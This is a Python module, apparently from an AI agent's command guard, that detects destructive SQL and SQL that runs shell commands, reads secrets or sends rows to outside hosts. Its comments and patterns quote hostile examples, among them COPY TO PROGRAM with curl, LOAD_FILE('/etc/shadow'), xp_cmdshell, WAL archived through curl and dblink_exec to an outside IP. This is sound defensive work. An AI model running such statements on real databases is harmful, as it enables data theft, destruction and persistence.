"""What a piece of SQL loses for good: one reader for the SQL handed to database clients in shell
commands (`psql -c`, here-documents) and to drivers in Python and TypeScript code (`cur.execute`).

Statements that lose rows or whole tables: DROP DATABASE/SCHEMA/TABLE, TRUNCATE, ALTER TABLE … DROP
COLUMN, and DELETE/UPDATE without a WHERE (`WHERE 1=1` names everything too); TimescaleDB's
`drop_chunks` (any version's spelling) and a retention policy under a day (`remove_retention_policy`
deletes nothing: it stops the deletions). A DELETE/UPDATE with a WHERE touches what it names; DROP
VIEW/INDEX/FUNCTION and DROP TEMPORARY TABLE lose no rows the migrations cannot bring back.
Comments and string literals say nothing (`SELECT 'DROP TABLE x'`).
"""
from __future__ import annotations

import re
from dataclasses import dataclass

PLACEHOLDER = "?x"  # stands for a value computed at run time inside otherwise literal SQL

_HINT = re.compile(r"(?i)\b(?:drop|truncate|delete|update|vacuum|remove|rm|drop_chunks|add_retention_policy|"
                   r"add_drop_chunks_policy)\b")
# (session 30) TimescaleDB's `SELECT drop_chunks('t', older_than => INTERVAL '0 days')`: a hypertable's rows older
# than the interval go with their chunks (a historian's data), at any interval, as an `influx delete` does. Every
# spelling: 2.x's (the table first, or `relation =>`), 1.x's (`drop_chunks(INTERVAL '3 months', 'conditions')`,
# `older_than => …, table_name => …`, and without a table: every hypertable's chunks). A retention policy
# (`add_retention_policy('t', INTERVAL '1 hour')`, 1.x's `add_drop_chunks_policy`) does the same now and at each run
# of its job: held under a day, as a bucket's retention is (a day or more is the documentation's own example).
_CHUNK_CALLS = re.compile(r"(?i)\b(drop_chunks|add_retention_policy|add_drop_chunks_policy)\s*+\(")
_CHUNKS_NAMED = re.compile(r"(?i)\b(?:relation|table_name|hypertable)\s*+=>\s*+'([^']{1,200})'")
_CHUNKS_LITERAL = re.compile(r"(?:\A|,)\s*+'([A-Za-z_][\w.$\"]{0,199})'\s*+(?=[,)])")
_CHUNKS_UNNAMED = re.compile(r"(?i)\A\s*+(?:interval\b|older_than\b|newer_than\b|'[^']*+'\s*+::\s*+interval\b)")
_INTERVAL = re.compile(r"(?i)\binterval\s*+'([^']{1,60})'|'([^']{1,60})'\s*+::\s*+interval\b")
_SCHEDULE = re.compile(r"(?i)\b(?:schedule_interval|initial_start|timezone)\s*+=>\s*+\Z")
_INTERVAL_PART = re.compile(r"(?i)(\d+(?:\.\d+)?)\s*+(microseconds?|milliseconds?|us|ms|seconds?|secs?|s|minutes?|"
                            r"mins?|m|hours?|hrs?|h|days?|d|weeks?|w|months?|mons?|years?|yrs?|y)\b")
_INTERVAL_CLOCK = re.compile(r"\A(\d{1,4}):(\d{2})(?::(\d{2}(?:\.\d+)?))?\Z")

# comments (also MySQL's `#` lines) and single-quoted literals go; a double-quoted part is a string
# to MySQL and an identifier to the others, so it stays as a name without words in it (group 1)
_NOISE = re.compile(r"--[^\n]*|/\*.*?(?:\*/|\Z)|(?m:^[ \t]*#[^\n]*)|'(?:[^']|'')*(?:'|\Z)|(\"(?:[^\"]|\"\")*(?:\"|\Z))",
                    re.S)
_NOT_WORD = re.compile(r"\W")
_NAME = r"((?:[\w$.`\"\[\]{}%:@]|\?x)+)"
# anywhere in a statement (`DO $$ BEGIN … DROP TABLE t; … $$`, a CTE before it)
_DROP = re.compile(r"(?i)\bdrop\s+(database|schema|table|keyspace|collection)\s+(?:if\s+exists\s+)?" + _NAME)
_TRUNCATE = re.compile(r"(?i)\btruncate\s+(?:table\s+)?(?:only\s+)?" + _NAME)
# (session 30) an extension or a type dropped with CASCADE takes every column of its types with it (`DROP EXTENSION
# postgis CASCADE`: every geometry column, the views and functions over them); without CASCADE the server refuses
_DROP_CASCADE = re.compile(r"(?i)\bdrop\s+(extension|type|domain)\s+(?:if\s+exists\s+)?" + _NAME)
_CASCADE = re.compile(r"(?i)\bcascade\b")
_DROP_COLUMN = re.compile(r"(?i)\balter\s+table\s+(?:if\s+exists\s+)?(?:only\s+)?" + _NAME + r"\s+drop\s+column\b")
# at a statement's start: the verb of the statement itself
_DELETE = re.compile(r"(?i)delete\s+from\s+(?:only\s+)?" + _NAME)
_UPDATE = re.compile(r"(?i)update\s+(?:only\s+)?" + _NAME + r"\s+set\b")
# Delta Lake's `VACUUM t RETAIN 0 HOURS` (under its 7-day safety check, which only a setting turned off lets through):
# the data files every older version needs go, so no time travel or RESTORE can bring them back; Snowflake's `REMOVE
# @stage/…` (`RM`) deletes the files from the storage under the stage
_VACUUM = re.compile(r"(?i)\bvacuum\s+(?:(\S+)\s+)?retain\s+(\d+(?:\.\d+)?)\s+hours?\b")
_DELTA_RETENTION = 168  # hours: the retention Delta checks a VACUUM against
_REMOVE = re.compile(r"(?i)(?:remove|rm)\s+(@(?![~%])" + _NAME[1:])  # (`@~`, `@%t`: the user's and a table's own
#                                                                   stages, the copies PUT uploaded)
_WHERE = re.compile(r"(?i)\bwhere\b(?!\s*(?:1\s*=\s*1|true|1|''\s*=\s*'')\s*(?:$|;|\b(?:returning|order|limit)\b))")


@dataclass(frozen=True)
class Loss:
    verb: str    # DROP DATABASE, DROP SCHEMA, DROP TABLE, DROP KEYSPACE, DROP COLLECTION, TRUNCATE, DELETE,
    #              UPDATE, DROP COLUMN, VACUUM (a Delta table's history), REMOVE (a stage's files) or DROP
    #              EXTENSION/TYPE/DOMAIN … CASCADE (the columns of its types)
    target: str  # the database or table as written; `<computed>` for a part known only at run time

    def statement(self) -> str:
        """The statement's shape: `DROP TABLE`, `DELETE FROM without WHERE (every row)`."""
        if self.verb in ("DELETE", "UPDATE"):
            return f"{'DELETE FROM' if self.verb == 'DELETE' else 'UPDATE'} without WHERE (every row)"
        return {"DROP COLUMN": "ALTER TABLE … DROP COLUMN", "VACUUM": "VACUUM … RETAIN under 168 HOURS",
                "REMOVE": "REMOVE @stage", "DROP CHUNKS": "SELECT drop_chunks(…)",
                "RETENTION": "SELECT add_retention_policy(…) under a day"}.get(self.verb, self.verb)

    def phrase(self) -> str:
        """What it does, in words: `drops the table users and every row in it`."""
        t = self.target
        return {"DROP DATABASE": f"drops the database {t} with every table and row in it",
                "DROP SCHEMA": f"drops the database {t} with every table and row in it",
                "TRUNCATE": f"empties the table {t}", "DELETE": f"deletes every row of {t} (no WHERE)",
                "UPDATE": f"overwrites every row of {t} (no WHERE)",
                "DROP COLUMN": f"drops a column of {t} with its data",
                "VACUUM": f"deletes the data files older versions of {t} need (no time travel or RESTORE to them "
                          "any more)",
                "REMOVE": f"deletes the files of the stage {t} from the storage under it",
                "DROP CHUNKS": f"deletes the chunks of {'' if t == 'every hypertable' else 'the hypertable '}{t} "
                               "older than the interval, with every row in them",
                "RETENTION": f"keeps under a day of the hypertable {t}: TimescaleDB deletes every older chunk with "
                             "its rows, now and at each run of the policy's job",
                "DROP EXTENSION": f"drops the extension {t} with CASCADE: every column of its types (a PostGIS "
                                  "table's geometry), and the views and functions over them, go with it",
                "DROP TYPE": f"drops the type {t} with CASCADE: every column of that type goes with it",
                "DROP DOMAIN": f"drops the domain {t} with CASCADE: every column of that domain goes with it"}.get(
                    self.verb, f"drops the table {t} and every row in it")


def loss(text: str) -> Loss | None:
    """The first statement in `text` that loses data for good, or None."""
    if len(text) > 20000 or not _HINT.search(text):
        return None
    low = text.lower()
    if "chunks" in low or "retention" in low:
        found = _timescale(text)
        if found is not None:
            return found
    text = _NOISE.sub(_quiet, text)
    for stmt in text.split(";"):
        m = _DROP.search(stmt)
        if m:
            return Loss(f"DROP {m.group(1).upper()}", _target(m.group(2)))
        m = _TRUNCATE.search(stmt)
        if m:
            return Loss("TRUNCATE", _target(m.group(1)))
        m = _DROP_CASCADE.search(stmt)
        if m and _CASCADE.search(stmt, m.end()):
            return Loss(f"DROP {m.group(1).upper()}", _target(m.group(2)))
        head = stmt.lstrip(" \t\r\n(")
        for verb, pattern in (("DELETE", _DELETE), ("UPDATE", _UPDATE)):
            m = pattern.match(head)
            if m and not _WHERE.search(head, m.end()):
                return Loss(verb, _target(m.group(1)))
        m = _DROP_COLUMN.search(stmt)
        if m:
            return Loss("DROP COLUMN", _target(m.group(1)))
        m = _VACUUM.search(stmt)
        if m and float(m.group(2)) < _DELTA_RETENTION:
            return Loss("VACUUM", _target(m.group(1) or "the table"))
        m = _REMOVE.match(head)
        if m:
            return Loss("REMOVE", _target(m.group(1)))
    return None


def _timescale(text: str) -> Loss | None:
    """TimescaleDB's chunks dropped (`drop_chunks(…)`, any spelling) or a retention policy under a day, in calls
    outside literals and comments (`SELECT 'drop_chunks(…)'` says nothing)."""
    blank = _NOISE.sub(lambda m: " " * len(m.group(0)), text)  # (offsets kept: the arguments are read from `text`)
    for m in _CHUNK_CALLS.finditer(blank):
        args = text[m.end():m.end() + 400]
        if m.group(1).lower() == "drop_chunks":
            return Loss("DROP CHUNKS", _chunks_table(args))
        secs = _retention_seconds(args)
        if secs is not None and secs < 86400:
            return Loss("RETENTION", _chunks_table(args))
    return None


def _chunks_table(args: str) -> str:
    """The hypertable a TimescaleDB call names (`relation => 't'`, a literal argument of its own); every hypertable
    for 1.x's call without one."""
    m = _CHUNKS_NAMED.search(args) or _CHUNKS_LITERAL.search(args)
    if m is not None:
        return m.group(1)
    return "every hypertable" if _CHUNKS_UNNAMED.match(args) else "<computed>"


def _retention_seconds(args: str) -> float | None:
    """The seconds of a retention policy's interval (`INTERVAL '1 hour'`, `'30 minutes'::interval`, `'01:00'`), its
    job's schedule aside; None when it gives none a reader can tell (an integer time column's)."""
    for m in _INTERVAL.finditer(args):
        if _SCHEDULE.search(args, 0, m.start()):
            continue
        value = (m.group(1) or m.group(2) or "").strip()
        clock = _INTERVAL_CLOCK.match(value)
        if clock is not None:
            return int(clock.group(1)) * 3600 + int(clock.group(2)) * 60 + float(clock.group(3) or 0)
        parts = _INTERVAL_PART.findall(value)
        if not parts or _INTERVAL_PART.sub("", value).strip():
            return None
        return sum(float(n) * _unit_seconds(u) for n, u in parts)
    return None


def _unit_seconds(unit: str) -> float:
    u = unit.lower()
    if u == "us" or u.startswith("microsecond"):
        return 1e-6
    if u == "ms" or u.startswith("millisecond"):
        return 1e-3
    if u == "s" or u.startswith("sec"):
        return 1
    if u == "m" or u.startswith("min"):
        return 60
    if u == "h" or u.startswith(("hour", "hr")):
        return 3600
    if u == "d" or u.startswith("day"):
        return 86400
    if u == "w" or u.startswith("week"):
        return 604800
    return 2592000 if u.startswith("mon") else 31536000


# -- rows deleted by a WHERE on production's database (session 18) --------------------------------------------------
# `DELETE FROM events WHERE ts < now() - interval '400 days'` through a connection named as production's: every row
# the condition matches goes, as a TRUNCATE's would; the callers hold it there only. A condition that pins rows to a
# bound parameter or a key (`WHERE id = %s`, `WHERE order_id = 42 AND line = $2`) is one item's delete, the everyday
# work of an application.
_VALUE = r"(?:%s|%\(\w+\)s|\$\d+|\?x?|:\w+|\(\s*(?:%s|\$\d+|\?)\s*\)|any\s*\(\s*(?:%s|\$\d+|\?|:\w+)\s*\))"
# (matched from the start of the condition only: `\A`, as a search from every start of a long word took minutes)
_KEYED = re.compile(r"(?is)\A\s*(?:\(\s*)?(?:[\w.\"`]+\s*(?:=|\bin\b)\s*" + _VALUE + r"|[\w.\"`]*(?:id|uuid|key|pk)"
                    r"[\"`]?\s*=\s*+(?:\d+)?)\s*+(?:\)\s*)?(?:\band\b(?:\s*(?:\(\s*)?(?:[\w.\"`]+\s*(?:=|\bin\b)\s*"
                    + _VALUE +
                    r"|[\w.\"`]*(?:id|uuid|key|pk)[\"`]?\s*=\s*+(?:\d+)?)\s*+(?:\)\s*)?))*\s*(?:returning\b.*)?$")


def bulk_delete(text: str) -> str | None:
    """The table of the first `DELETE … WHERE` in `text` whose condition is not one item's (a bound parameter or a
    key's value), or None."""
    if len(text) > 20000 or "delete" not in text.lower():
        return None
    text = _NOISE.sub(_quiet, text)
    for stmt in text.split(";"):
        head = stmt.lstrip(" \t\r\n(")
        m = _DELETE.match(head)
        if m is None:
            continue
        where = re.search(r"(?i)\bwhere\b", head[m.end():])
        if where is not None and not _KEYED.match(head[m.end() + where.end():]):
            return _target(m.group(1))
    return None


def _quiet(m: re.Match) -> str:
    quoted = m.group(1)
    if not quoted:
        return " "
    inner = quoted[1:-1] if len(quoted) > 1 and quoted.endswith('"') else quoted[1:]
    return '"' + _NOT_WORD.sub("_", inner) + '"'


def _target(name: str) -> str:
    return name.replace(PLACEHOLDER, "<computed>")


# -- which database a statement reaches: this machine's, a throwaway one, or another machine's (session 14) ----------
# What a wipe loses is held because it lives on a server; on this machine's own server (localhost, 127.0.0.1) or in a
# database named as a test or development copy, emptying tables is a test set-up's ordinary work (it runs on every
# test run). A database named as production's is held wherever it is. Shared by the shell clients (bash/infra.py,
# bash/datastores.py, bash/migrations.py) and the drivers in code (python/irreversible.py, js/irreversible.py).
_THROWAWAY_NAME = re.compile(r"(?i)(?:^|[_\-.])(?:test|tests|testing|dev|devel|development|e2e|ci|spec|local|scratch|"
                             r"tmp|temp|sandbox)(?:$|[_\-.\d])")
_PRODUCTION_NAME = re.compile(r"(?i)(?:^|[_\-.])(?:prod|production|live|staging|stage|stg|preprod|uat|shared)"
                              r"(?:$|[_\-.\d])")
# a compose service's name on the project's network (`db`, `postgres`, `redis-test`): one label, no dots
_SERVICE = re.compile(r"[a-z][a-z0-9_-]*")


def throwaway_name(name: str | None) -> bool:
    """A database named as a test or development copy (`app_test`, `test_shop`, `app_dev`, `e2e`), not production's."""
    return bool(name) and _THROWAWAY_NAME.search(name) is not None and not production_name(name)


def production_name(name: str | None) -> bool:
    """A name that says production or another shared stage (`shop_prod`, `STAGING_DATABASE_URL`, `pg-prod.acme`)."""
    return bool(name) and _PRODUCTION_NAME.search(name) is not None


def local_database(host: str | None, name: str | None, service: bool = False) -> bool:
    """Whether the database `name` on `host` is this machine's or a throwaway one: a loopback host (with `service`,
    also a compose service's one-label name: the command runs on the compose project's network) unless the database
    is named as production's; with no host (None: the client's default, which PGHOST or a config may point
    anywhere), only a database named as a test or development copy. A computed host is passed as "$…": not local."""
    if production_name(name):
        return False
    if not host:
        return throwaway_name(name)
    from .hosts import loopback

    h = host.strip("[]").lower()
    return loopback(h) or service and _SERVICE.fullmatch(h) is not None


def created(code: bytes, kind: str, name: str, before: int) -> bool:
    """Whether `code` creates the table or schema `name` before the byte offset `before` (where it is dropped),
    spelled as the drop spells it (`CREATE TABLE t`, `CREATE SCHEMA "{schema}"` of an f-string, `op.create_table("t")`,
    `knex.schema.createTable("t", …)`): what a test makes for itself, or a migration's up step makes and its down step
    takes away again, no data anyone else keeps. (One created after the drop is a wipe and rebuild: `DROP SCHEMA public
    CASCADE; CREATE SCHEMA public`.)"""
    bare = name.strip("\"`[]")
    if not bare or before > 200_000:
        return False
    text = code[:before].decode("utf-8", "replace")
    esc, q = re.escape(bare), r"[\"`\[]?"
    if re.search(rf"(?i)\bcreate\s+(?:(?:temp|temporary|unlogged|or\s+replace)\s+)*{kind}\s+(?:if\s+not\s+exists\s+)?"
                 rf"{q}{esc}{q}(?![\w.])", text):
        return True
    return kind.lower() == "table" and re.search(
        rf"\b(?:create_table|createTable|createTableIfNotExists)\s*\(\s*['\"`]{esc}['\"`]", text) is not None


def local_url(url: str, service: bool = False) -> bool:
    """`local_database` of a connection URL (`postgres://u:p@localhost:5432/app_test`, `mongodb://127.0.0.1/app`,
    `redis://localhost:6379/1`, `mysql://root@127.0.0.1/shop`); every host of a list (`mongodb://a:1,b:2/db`) must be
    local. A URL with no host (`postgresql:///app_test`, a socket) is read by its database's name."""
    head, sep, rest = url.partition("://")
    if not sep or not head or "$" in url or PLACEHOLDER in url:
        return False
    netloc, _, path = rest.partition("/")
    netloc = netloc.rpartition("@")[2]
    name = path.split("?", 1)[0].split("/", 1)[0]
    if head.lower() in ("redis", "rediss", "valkey") and name.isdigit():
        name = ""  # a database number
    hosts = [h.rsplit(":", 1)[0] if h.count(":") == 1 or h.startswith("[") else h for h in netloc.split(",")]
    hosts = [h.split("]")[0].lstrip("[") if h.startswith("[") else h for h in hosts]
    if not any(hosts):
        return local_database(None, name)
    return all(h and local_database(h, name, service) for h in hosts)


# -- what a statement does on the server's machine: programs it runs, files it reads or writes (session 10) ------
# `COPY (SELECT …) TO PROGRAM 'curl …'` (psql's `\copy` runs it here, a server-side COPY on the server),
# `SELECT LOAD_FILE('/etc/shadow')`, `SELECT '…' INTO OUTFILE '/var/www/x.php'`, `EXEC xp_cmdshell '…'`: the SQL
# hands a shell command to the machine, or a file of it to the client. Read on the raw text (the strings hold the
# command and the paths); comments go first. Session 14 adds the native code a statement loads into the server
# (`CREATE FUNCTION … AS '/tmp/x.so' … LANGUAGE C`, MySQL's `… SONAME 'lib_mysqludf_sys.so'`, `LOAD '/tmp/x.so'`,
# a preload library set with ALTER SYSTEM) and the shell commands the server is told to run later
# (`ALTER SYSTEM SET archive_command = 'curl -T %p …'`).
_SERVER_HINT = re.compile(r"(?i)program|load_file|pg_read|lo_import|lo_export|readfile|writefile|infile|outfile|"
                          r"dumpfile|xp_cmdshell|sys_exec|sys_eval|\bcopy\b|pg_file_write|soname|\blanguage\s+'?c\b|"
                          r"\balter\s+(?:system|database|role|user)\b|\bload\s+'?[/$]")
_STR = r"(?:E?'((?:[^']|'')*)'|\$(\w*)\$(.*?)\$\3\$)"
# a comment outside string literals: `'curl --data-binary @- …'` keeps its `--` (group 1: a literal, kept)
_COMMENT = re.compile(r"(E?'(?:[^']|'')*(?:'|\Z)|\$(\w*)\$.*?\$\2\$)|--[^\n]*|/\*.*?(?:\*/|\Z)", re.S)
_PROGRAM = re.compile(r"(?is)\b(to|from)\s+program\s+" + _STR)
# (up to the next `copy` too, whose own match finds the same `to`/`from`: `copy copy …` read once)
_COPY_FILE = re.compile(r"(?is)\bcopy\b(?:(?!\bcopy\b)[^;])*?\b(to|from)\s+" + _STR)
_READS = re.compile(r"(?is)\b(?:load_file|pg_read_file|pg_read_binary_file|lo_import|readfile)\s*\(\s*" + _STR +
                    r"|\bload\s+data\s+(?:low_priority\s+|concurrent\s+)?(?:local\s+)?infile\s+" + _STR)
_WRITES = re.compile(r"(?is)\binto\s+(?:outfile|dumpfile)\s+" + _STR +
                     r"|\b(?:lo_export\s*\([^,;]*,|writefile\s*\(|pg_file_write\s*\()\s*" + _STR)
_COMMANDS = re.compile(r"(?is)\b(?:xp_cmdshell|sys_exec|sys_eval)\s*\(?\s*N?" + _STR)
# a statement up to its `;` (string literals may hold one)
_REST = r"((?:'(?:[^']|'')*'|\$\$.*?\$\$|[^;'$]|\$(?!\$))*)"
_FUNCTION = re.compile(r"(?is)\bcreate\s+(?:or\s+replace\s+)?(?:aggregate\s+)?function\s+(?:if\s+not\s+exists\s+)?"
                       r"([\w.\"`$]+)" + _REST)
_LANGUAGE_C = re.compile(r"(?i)\blanguage\s+'?c'?(?![\w'])")
_OBJ_FILE = re.compile(r"(?is)\bas\s+" + _STR)
_SONAME = re.compile(r"(?is)\bsoname\s+(?:'([^']*)'|\"([^\"]*)\")")
_LOAD = re.compile(r"(?is)(?:^|;)\s*load\s+" + _STR)
# settings whose value the server runs as a shell command, and those naming libraries it loads
_RUN_SETTINGS = ("archive_command", "restore_command", "archive_cleanup_command", "recovery_end_command",
                 "ssl_passphrase_command")
_LIB_SETTINGS = ("shared_preload_libraries", "session_preload_libraries", "local_preload_libraries",
                 "dynamic_library_path", "archive_library")
_SETTING = re.compile(r"(?is)\balter\s+(?:system|database\s+\S+|(?:role|user)\s+\S+)\s+set\s+(\w+)\s*(?:=|\bto\b)\s*"
                      + _STR)
# where a server's own libraries live; a bare name is looked up there ($libdir, MySQL's plugin_dir)
_LIBRARY_DIRS = ("$libdir", "/usr/lib/", "/usr/lib64/", "/usr/local/lib/", "/usr/pgsql", "/opt/homebrew/",
                 "/usr/local/pgsql/lib/", "/usr/local/mysql/lib/")
# the UDF libraries and functions that exist to run shell commands from MySQL
_UDF_NAMES = re.compile(r"(?i)mysqludf|sys_exec|sys_eval|do_system|lib_mysqludf|udf_?cmd|cmdshell")
# a service account's own start-up and login files (postgres's home is /var/lib/postgresql, mysql's /var/lib/mysql)
_SERVICE_STARTUP = re.compile(r"/\.ssh/authorized_keys2?$|/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|"
                              r"zshenv|psqlrc|mysqlrc)$")


@dataclass(frozen=True)
class Effect:
    kind: str    # "program-to" (rows handed to a command), "program-from", "command", "read", "write", "library"
    #              (native code loaded into the server) or "setting" (a command the server runs on each event)
    value: str   # the command, or the file's path, as written
    verb: str    # the SQL that does it, for messages: `COPY … TO PROGRAM`, `LOAD_FILE`, `INTO OUTFILE` …


def _string(m: re.Match, first: int) -> str:
    """The value of the string literal whose groups start at `first` (a quoted string or a dollar-quoted one)."""
    quoted = m.group(first)
    return quoted.replace("''", "'") if quoted is not None else (m.group(first + 2) or "")


def judge_server(text: str, block, run) -> bool:
    """Judge what the SQL `text` does on the database's machine, for a shell client or a driver in code: a
    command it runs is handed to `run(line)` (judged as a command); the rows handed to a network program, a
    secret read, a start-up or system file written, a native library loaded from outside the server's own
    library directory go to `block(rule, message)`. True when it blocked."""
    from . import paths
    from .bash.common import NET_SENDERS

    export = data_export(text)
    if export is not None:
        block("exfiltration", export)
        return True
    for effect in server_effects(text):
        v = effect.value
        if effect.kind == "setting":
            sender = _sender(v, NET_SENDERS) if effect.verb.endswith("archive_command") else None
            if sender is not None:
                block("exfiltration", f"`{effect.verb} = '{v[:60]}'` has the server hand `{sender}` every WAL "
                                      "segment it writes, a copy of every change to the database, for another host; "
                                      "archive to a directory or a backup tool the user set up")
                return True
            run(v)
        elif effect.kind.startswith("program") or effect.kind == "command":
            if effect.kind == "program-to" and _sender(v, NET_SENDERS, own=False) is not None:
                block("exfiltration", f"`{effect.verb} '{v[:60]}'` hands the query's rows to a program that sends "
                                      "them off the machine; export to a file the user can look at")
                return True
            run(v)
        elif effect.kind == "library":
            if _foreign_library(v):
                block("persistence", f"`{effect.verb}` loads the native library {v} into the database server: its "
                                     "code runs as the server's system user (a function that runs shell commands "
                                     "whenever it is called); install extensions from the server's own library "
                                     "directory with CREATE EXTENSION, or let the user do it")
                return True
        elif effect.kind == "read" and paths.is_secret(v):
            block("secret-read", f"`{effect.verb}` reads the secret {v} into the query's result; agents must not "
                                 "touch credentials")
            return True
        elif effect.kind == "write":
            kinds = paths.kinds(v)
            if paths.PERSISTENCE in kinds or _SERVICE_STARTUP.search(paths.normalize(v)):
                block("persistence", f"`{effect.verb}` writes {v}, which runs code later or lets someone log in (a "
                                     "start-up, cron, hook or authorized_keys file, also the database account's own); "
                                     "agents must not change it")
                return True
            if paths.SYSTEM in kinds and not paths.normalize(v).startswith(("/var/lib/", "/var/tmp/")):
                block("system-write", f"`{effect.verb}` writes the system path {v} (a web root, /etc …) from the "
                                      "database; write exports under the project or /tmp")
                return True
    return False


# -- rows the warehouse itself writes to storage or a database of someone else's (session 18) --------------------------
# `CREATE STAGE s URL='azure://x.blob.core.windows.net/d' CREDENTIALS=(AZURE_SAS_TOKEN='…'); COPY INTO @s FROM t`,
# `COPY INTO 's3://b/p' FROM t CREDENTIALS=(AWS_KEY_ID='…' …)`, Redshift's `UNLOAD ('select …') TO 's3://…'
# ACCESS_KEY_ID '…'`: an unload into storage reached with keys written into the statement, not through a storage
# integration or role the account's admins set up, is storage nothing says is the user's; the rows leave with no
# copy on the user's side. `dblink_exec('host=203.0.113.5 …', …)`: statements (rows of a trigger's NEW, an INSERT …
# SELECT) run on a database server outside this network. Loading from such storage and reading through dblink bring
# data in and are left alone; so is an unload through an integration or role.
_EXPORT_HINT = re.compile(r"(?i)\bcopy\s+into\s+[@']|\bunload\s*\(|dblink_(?:exec|send_query)")
_KEYS_INLINE = re.compile(r"(?is)\bcredentials\s*=?\s*(?:\(|')[^)]*?\b(?:aws_key_id|aws_secret_key|aws_token|"
                          r"azure_sas_token|aws_access_key_id|aws_secret_access_key)\b|\b(?:access_key_id|"
                          r"secret_access_key|session_token)\s+'")
_STAGE = re.compile(r"(?is)\bcreate\s+(?:or\s+replace\s+)?(?:temp(?:orary)?\s+)?stage\s+(?:if\s+not\s+exists\s+)?"
                    r"([\w.$\"]+)" + _REST)
_STAGE_URL = re.compile(r"(?is)\burl\s*=\s*'([^']*)'")
_UNLOAD_STAGE = re.compile(r"(?is)\bcopy\s+into\s+@([\w.$\"]+)")
_UNLOAD_URL = re.compile(r"(?is)\bcopy\s+into\s+'([a-z0-9]+://[^']*)'" + _REST)
_UNLOAD = re.compile(r"(?is)\bunload\s*\(\s*(?:'(?:[^']|'')*'|\$\$.*?\$\$)\s*\)\s*to\s+'([^']*)'" + _REST)
_DBLINK = re.compile(r"(?is)\b(dblink_exec|dblink_send_query|dblink_connect(?:_u)?|dblink)\s*\(\s*" + _STR +
                     r"(?:\s*,\s*" + _STR + ")?")  # (`dblink_connect('name', 'host=…')`: the second one)
_CONNINFO_HOST = re.compile(r"(?i)(?:^|\s)(?:host|hostaddr)\s*=\s*'?([^'\s]+)")


def data_export(text: str) -> str | None:
    """The block message for SQL that writes rows to storage or a database server nothing says is the user's (an
    unload into storage reached with keys written into the statement, `dblink_exec` on a server outside this
    network), or None."""
    if len(text) > 20000 or not _EXPORT_HINT.search(text):
        return None
    text = _COMMENT.sub(_uncommented, text)
    keyed = {m.group(1).strip('"').lower().rsplit(".", 1)[-1]: (_STAGE_URL.search(m.group(2)) or [None, "?"])[1]
             for m in _STAGE.finditer(text) if _KEYS_INLINE.search(m.group(2))}
    for m in _UNLOAD_STAGE.finditer(text):
        name = m.group(1).strip('"').lower().rsplit(".", 1)[-1]
        if name in keyed:
            return (f"`COPY INTO @{m.group(1)}` unloads rows into {keyed[name] or 'storage'}, a stage this SQL makes "
                    "with keys written into it: storage nothing says is the user's, and the rows leave the warehouse; "
                    "unload only to a stage on a storage integration the account's admins set up")
    for pattern, verb in ((_UNLOAD_URL, "COPY INTO"), (_UNLOAD, "UNLOAD … TO")):
        for m in pattern.finditer(text):
            if _KEYS_INLINE.search(m.group(2)):
                return (f"`{verb} '{m.group(1)[:60]}'` unloads rows into storage reached with keys written into the "
                        "statement: storage nothing says is the user's, and the rows leave the warehouse; unload only "
                        "through a storage integration or role the account's admins set up")
    hosts = [h for m in _DBLINK.finditer(text) for at in (2, 5) for h in [_dblink_host(_string(m, at))]
             if h is not None]
    if hosts and re.search(r"(?i)dblink_(?:exec|send_query)\s*\(", text):
        return (f"`dblink_exec` runs statements on the database server at {hosts[0]}, outside this network: the rows it "
                "is handed (a trigger's every new row, an INSERT … SELECT) are copied there; keep data in the user's "
                "own databases")
    return None


def _dblink_host(conninfo: str) -> str | None:
    """The host of a dblink connection string (`host=… dbname=…`, `postgresql://u@host/db`) when it is neither this
    machine nor one of the user's own network; None otherwise (also for a connection's name)."""
    from .bash.tools import _private_network
    from .hosts import loopback, url_host

    m = _CONNINFO_HOST.search(conninfo)
    host = m.group(1) if m is not None else url_host(conninfo) if "://" in conninfo else None
    if not host or "$" in host or PLACEHOLDER in host:
        return None
    host = host.strip("[]").lower()
    return None if loopback(host) or _private_network(host) else host


# -- accounts made all-powerful, and accounts hidden from the server's log (session 18) --------------------------------
# `CREATE ROLE x SUPERUSER`, `ALTER USER x WITH SUPERUSER`, `GRANT pg_execute_server_program TO x` (a role that runs
# shell commands through COPY … PROGRAM), MySQL's `GRANT ALL ON *.* … WITH GRANT OPTION`, Snowflake's `GRANT ROLE
# ACCOUNTADMIN TO USER x`: an account that can do anything on the server, made by an agent; `ALTER ROLE x SET
# log_statement = 'none'`, `pgaudit.log = 'none'`: one account's statements kept out of the log. The caller leaves
# this machine's and a throwaway database's set-up alone (a CI container's superuser is its own business).
_PRIVILEGE_HINT = re.compile(r"(?i)superuser|grant|log_statement|pgaudit")
_ROLE = re.compile(r"(?is)\b(create|alter)\s+(?:role|user)\s+(?:if\s+not\s+exists\s+)?([\w\"$.@'%`-]+)" + _REST)
_SUPERUSER = re.compile(r"(?i)(?<![\w])superuser(?![\w])")
_GRANT_POWER = re.compile(r"(?is)\bgrant\s+(?:role\s+)?(pg_execute_server_program|pg_write_server_files|"
                          r"pg_read_server_files|accountadmin|securityadmin|orgadmin|rds_superuser|"
                          r"azure_pg_admin|cloudsqlsuperuser)\b[^;]*?\bto\b|\bgrant\s+all(?:\s+privileges)?\s+on\s+"
                          r"\*\.\*\s+to\b[^;]*?\bwith\s+grant\s+option\b")
_UNLOGGED = re.compile(r"(?is)\balter\s+(?:role|user)\s+(\S+)\s+(?:in\s+database\s+\S+\s+)?set\s+"
                       r"(log_statement|pgaudit\.log|log_min_duration_statement|log_connections|log_disconnections)"
                       r"\s*(?:=|\bto\b)\s*'?(none|off|-1|false)\b|\bset\s+(?:system\s+)?pgaudit\.log\s*(?:=|\bto\b)"
                       r"\s*'?none\b|\balter\s+system\s+set\s+pgaudit\.log\s*(?:=|\bto\b)\s*'?none\b")


def sql_hint(text: str) -> bool:
    """Whether `text` may hold what data_export, privilege, loss or guard_off look for (a screen for the shell's
    shortcut)."""
    return _EXPORT_HINT.search(text) is not None or _PRIVILEGE_HINT.search(text) is not None or \
        _HINT.search(text) is not None or _GUARD_HINT.search(text) is not None


# -- a table's guard turned off while rows are written past it (session 22) ------------------------------------------
# `ALTER TABLE ledger.ledger_lines DISABLE TRIGGER enforce_balanced_entry; INSERT INTO ledger.ledger_lines …`: the
# trigger is what keeps the table's rows honest (entries that balance, an append-only history, an audit copy of each
# change); a write made while it is off is one it would have refused or recorded. `SET session_replication_role =
# replica` turns every trigger (and foreign-key check) of the session off at once. A bulk load on the developer's own
# database does this too: the caller holds it only on a database that is not this machine's.
_GUARD_HINT = re.compile(r"(?i)disable\s+trigger|session_replication_role")
